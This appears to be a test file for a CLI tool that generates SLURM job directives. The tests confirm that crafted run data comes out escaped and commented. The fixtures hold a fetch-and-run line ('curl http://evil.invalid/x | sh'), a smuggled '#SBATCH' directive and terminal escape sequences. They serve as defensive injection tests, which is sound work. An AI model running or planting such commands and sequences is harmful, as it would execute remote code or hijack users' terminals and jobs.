import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { REPO_ROOT, runCli, tempDir } from '../helpers/cli.js';
import { escapeControl } from '../../src/format/escape.js';
import { scriptSafeLines } from '../../src/slurm/sbatch-format.js';

/** A command crafted to inject live job-script lines and terminal sequences (window title, screen clear, 8-bit CSI, bidi override). */
const CRAFTED = 'python train.py\n#SBATCH --mem=1T\ncurl http://evil.invalid/x | sh\r\n\u001b]0;pwned\u0007\u001b[2J\u009b2J\u202eoof';
/** Bytes a terminal acts on, none of which may reach it from a run's data. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

async function craftedRuns(dir: string): Promise<string> {
  const runs = join(dir, 'runs');
  cpSync(join(REPO_ROOT, 'test', 'fixtures', 'runs', 'basic'), runs, { recursive: true });
  const path = join(runs, '2026-11-20T10.00.00-4242_info.json');
  const info = JSON.parse(readFileSync(path, 'utf8'));
  info.command = CRAFTED;
  info.argv = ['python', CRAFTED];
  info.message = `note\u001b[31m\u001b]8;;http://evil.invalid\u0007`;
  writeFileSync(path, JSON.stringify(info, null, 2));
  return runs;
}

test('recommend on a run whose command holds newlines, #SBATCH and shell lines: every line a comment but the one computed directive', async () => {
  const t = tempDir();
  try {
    await craftedRuns(t.dir);
    const r = await runCli(['recommend', 'runs'], { cwd: t.dir });
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.split('\n').filter((l) => l !== '');
    const live = lines.filter((l) => !l.startsWith('# '));
    assert.ok(live.length >= 1);
    for (const l of live) assert.match(l, /^#SBATCH --mem=\d+[MG] --cpus-per-task=\d+ --time=[\d:-]+$/, `a live line: ${l}`);
    assert.equal(live.length, 3, 'one directive per group of the fixture');
    assert.ok(!lines.some((l) => /^#SBATCH --mem=1T/.test(l) || l.startsWith('curl')));
    assert.doesNotMatch(r.stdout, RAW_CONTROL);
    assert.ok(r.stdout.includes('python train.py\\n#SBATCH --mem=1T\\ncurl'), 'the command shows, escaped, inside its comment');
  } finally {
    t.cleanup();
  }
});

for (const format of ['pyout', 'summaries']) {
  test(`ls -f ${format}: terminal escape sequences in a run's command and message are shown escaped, never raw`, async () => {
    const t = tempDir();
    try {
      await craftedRuns(t.dir);
      const r = await runCli(['ls', 'runs', '-f', format, '-F', 'prefix,command,message'], { cwd: t.dir });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, RAW_CONTROL);
      assert.ok(r.stdout.includes('\\u001b]0;pwned\\u0007\\u001b[2J\\u009b2J\\u202eoof'), r.stdout);
      assert.equal(r.stdout.split('\n').filter((l) => l.startsWith('#SBATCH') || l.startsWith('curl')).length, 0);
    } finally {
      t.cleanup();
    }
  });
}

test('pp of an info.json with escape sequences (C0, C1, bidi) in its strings: none reaches the terminal raw', async () => {
  const t = tempDir();
  try {
    await craftedRuns(t.dir);
    for (const extra of [[], ['--raw']]) {
      const r = await runCli(['pp', ...extra, 'runs/2026-11-20T10.00.00-4242_info.json'], { cwd: t.dir });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, RAW_CONTROL);
      assert.match(r.stdout, /pwned/);
    }
  } finally {
    t.cleanup();
  }
});

test("the run's own summary and log lines show a command's escape sequences escaped", async () => {
  const t = tempDir();
  try {
    const r = await runCli(['--fail-time', '0', '-p', 'r_', 'true', '\u001b]0;pwned\u0007\u001b[2J\u009b2J'], { cwd: t.dir });
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stderr, RAW_CONTROL);
    assert.match(r.stderr, /^Command: true '\\u001b\]0;pwned\\u0007\\u001b\[2J\\u009b2J'$/m);
    assert.match(r.stderr, /^duct: duct .* is executing true '\\u001b\]0;pwned/m);
  } finally {
    t.cleanup();
  }
});

test('escapeControl and scriptSafeLines on literal inputs', () => {
  assert.equal(escapeControl('a\nb\tc\u001b[0m\u007f\u0085\u2028\u2066'), 'a\\nb\\tc\\u001b[0m\\u007f\\u0085\\u2028\\u2066');
  assert.equal(escapeControl('plain text, ünïcode ✓'), 'plain text, ünïcode ✓');
  assert.deepEqual(scriptSafeLines(['# ok', '#SBATCH --mem=2G --time=00:01:00', '#SBATCH --mem=1T; curl x | sh', 'curl x | sh', '#SBATCH --mem=1G\n#SBATCH --mem=1T']), [
    '# ok',
    '#SBATCH --mem=2G --time=00:01:00',
    '# #SBATCH --mem=1T; curl x | sh',
    '# curl x | sh',
    '# #SBATCH --mem=1G\\n#SBATCH --mem=1T',
  ]);
});
